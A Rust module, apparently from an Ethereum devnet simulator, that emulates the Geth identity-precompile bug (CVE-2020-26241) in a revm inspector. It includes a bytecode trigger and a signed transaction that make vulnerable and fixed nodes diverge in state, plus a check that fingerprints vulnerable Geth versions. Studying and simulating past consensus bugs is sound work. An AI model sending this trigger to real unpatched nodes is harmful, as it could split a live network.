//! The bug that parted Ethereum on 2020-11-11: the identity precompile's answer was a piece of the caller's live memory.
//!
//! Geth from 1.9.7 to before 1.9.17 (CVE-2020-26241) did not copy what the precompile at address 4 returned. What the
//! caller wrote into that memory afterwards was then in the return data, too, which EIP-211 says stays as it was. Here an
//! inspector of the EVM does the same to nodes that are to have the bug: as long as the answer of address 4 is the return
//! data of a frame, it is read anew from the frame's memory before each instruction.
//!
//! Left out: memory that grows. Go moves it then or does not, by its capacity; here the answer is let go when it grows.

use core::ops::Range;

use alloy_consensus::TxEip1559;
use alloy_primitives::{Address, Bytes, TxKind, address, hex};
use k256::ecdsa::SigningKey;
use revm::Inspector;
use revm::interpreter::interpreter::EthInterpreter;
use revm::interpreter::interpreter_types::{MemoryTr as _, ReturnData as _};
use revm::interpreter::{
    CallInput, CallInputs, CallOutcome, CreateInputs, CreateOutcome, Interpreter,
};

use super::transaction::{Transaction, sign};

/// Where the identity precompile is.
const IDENTITY: Address = address!("0000000000000000000000000000000000000004");

/// Does nothing, or has the bug.
#[derive(Clone, Debug, Default)]
pub(crate) struct LiveMemory {
    frames: Vec<Option<Alias>>,
}

/// A frame's return data that is a piece of its memory.
#[derive(Clone, Debug)]
struct Alias {
    /// Where, in the memory of all frames.
    place: Range<usize>,
    /// How large the frame's own memory was then; not known before its next instruction.
    size: Option<usize>,
}

impl LiveMemory {
    /// A frame has ended that its caller's return data is now of.
    fn leave(&mut self, alias: Option<Alias>) {
        self.frames.pop();
        if let Some(caller) = self.frames.last_mut() {
            *caller = alias;
        }
    }
}

impl<CTX> Inspector<CTX, EthInterpreter> for LiveMemory {
    fn step(&mut self, interpreter: &mut Interpreter<EthInterpreter>, _context: &mut CTX) {
        let Some(frame) = self.frames.last_mut() else { return };
        let Some(alias) = frame else { return };
        let size = interpreter.memory.size();
        let start = alias.place.start.checked_sub(interpreter.memory.local_memory_offset());
        let end = start.and_then(|start| start.checked_add(alias.place.len()));
        match (start, end) {
            (Some(start), Some(end)) if *alias.size.get_or_insert(size) == size && end <= size => {
                let live = Bytes::copy_from_slice(&interpreter.memory.slice(start..end));
                interpreter.return_data.set_buffer(live);
            }
            _ => *frame = None,
        }
    }

    fn call(&mut self, _context: &mut CTX, _inputs: &mut CallInputs) -> Option<CallOutcome> {
        self.frames.push(None);
        None
    }

    fn call_end(&mut self, _context: &mut CTX, inputs: &CallInputs, outcome: &mut CallOutcome) {
        let alias = match &inputs.input {
            CallInput::SharedBuffer(place)
                if inputs.bytecode_address == IDENTITY
                    && outcome.result.is_ok()
                    && !place.is_empty() =>
            {
                Some(Alias { place: place.clone(), size: None })
            }
            CallInput::SharedBuffer(_) | CallInput::Bytes(_) => None,
        };
        self.leave(alias);
    }

    fn create(&mut self, _context: &mut CTX, _inputs: &mut CreateInputs) -> Option<CreateOutcome> {
        self.frames.push(None);
        None
    }

    fn create_end(
        &mut self,
        _context: &mut CTX,
        _inputs: &CreateInputs,
        _outcome: &mut CreateOutcome,
    ) {
        self.leave(None);
    }
}

/// Code that asks the identity precompile for one word, writes another one over it, and stores what the return data says
/// then: a contract's making that leaves another state behind where the bug is.
pub(crate) fn trigger() -> Bytes {
    hex!(
        "6001600052" // memory[0] = 1
        "60006000602060006004620f4240fa50" // STATICCALL(1000000, 4, 0, 32, 0, 0)
        "6002600052" // memory[0] = 2
        "602060006000" // RETURNDATACOPY(0, 0, 32)
        "3e"
        "600051600055" // storage[0] = memory[0]
        "00"
    )
    .into()
}

/// The account that sends the trigger: the first of the development accounts, whose key everybody knows.
pub(crate) const TRIGGER_SENDER: Address = address!("f39Fd6e51aad88F6F4ce6aB8827279cffFb92266");

/// The transaction that makes a contract by [`trigger`].
pub(crate) fn trigger_transaction(chain_id: u64, nonce: u64) -> Transaction {
    let key = hex!("ac0974bec39a17e36ba4a6b4d238ff944bacb478cbed5efcae784d7bf4f2ff80");
    let key = SigningKey::from_slice(&key)
        .expect("invariant: the first key of the development mnemonic is a valid one");
    let make = TxEip1559 {
        chain_id,
        nonce,
        gas_limit: 500_000,
        max_fee_per_gas: 1_000_000_000_000,
        max_priority_fee_per_gas: 2_000_000_000,
        to: TxKind::Create,
        input: trigger(),
        ..TxEip1559::default()
    };
    sign(make, &key).expect("invariant: signing the hash of a transaction does not fail")
}

/// Whether a client that names itself so has the bug. Source: CVE-2020-26241, GHSA-69v6-xc2j-r2jf.
pub(crate) fn has_bug(client_version: &str) -> bool {
    let Some(rest) = client_version.strip_prefix("Geth/v1.9.") else { return false };
    let end = rest.find(|it: char| !it.is_ascii_digit()).unwrap_or(rest.len());
    rest.get(..end)
        .and_then(|patch| patch.parse().ok())
        .is_some_and(|patch: u64| (7..17).contains(&patch))
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use alloy_primitives::{B256, U256};

    use super::*;
    use crate::chain::{Block, BlockStore, Template, build_block, genesis_block};

    fn after_genesis(old_rules: bool, transactions: &[Arc<Transaction>]) -> Block {
        let genesis = Arc::new(genesis_block(1_700_000_000, None));
        let mut store = BlockStore::default();
        store.insert(Arc::clone(&genesis));
        let template = Template {
            hashes: store.hashes(&genesis),
            parent: genesis,
            chain_id: 31_337,
            timestamp: 1_700_000_002,
            beneficiary: Address::repeat_byte(0xbe),
            prev_randao: B256::repeat_byte(7),
            beacon_root: B256::repeat_byte(9),
            extra_data: Bytes::new(),
            marks: None,
            old_rules,
        };
        build_block(&template, transactions)
    }

    #[test]
    fn one_transaction_leaves_other_states_by_the_old_rules_and_by_the_true_ones() {
        // Else the split would be played and not arise: the two versions would agree on every block.
        let trigger = Arc::new(trigger_transaction(31_337, 0));
        let contract = TRIGGER_SENDER.create(0);
        let read = |block: &Block| {
            let receipt = &block.outcomes.first().expect("one transaction").receipt;
            assert!(receipt.status(), "the contract was made");
            block.state.account(contract).expect("a contract").slot(U256::ZERO)
        };
        let (old, new) = (
            after_genesis(true, &[Arc::clone(&trigger)]),
            after_genesis(false, &[Arc::clone(&trigger)]),
        );
        assert_eq!(read(&new), U256::from(1), "return data stays as it was (EIP-211)");
        assert_eq!(read(&old), U256::from(2), "it is the memory that was written to since");
        assert_ne!(old.header.state_root, new.header.state_root);
        assert_eq!(old.header.gas_used, new.header.gas_used);
        let (old, new) = (after_genesis(true, &[]), after_genesis(false, &[]));
        assert_eq!(old.hash, new.hash, "everything else is the same by both");
    }

    #[test]
    fn the_versions_of_the_advisory_have_the_bug() {
        let with =
            ["Geth/v1.9.7", "Geth/v1.9.9-stable-01744997/linux-amd64/go1.13.8", "Geth/v1.9.16"];
        assert!(with.iter().all(|version| has_bug(version)));
        let without = ["Geth/v1.9.6", "Geth/v1.9.17-stable", "Geth/v1.10.9", "besu/v1.9.9", "Geth"];
        assert!(!without.iter().any(|version| has_bug(version)));
    }
}
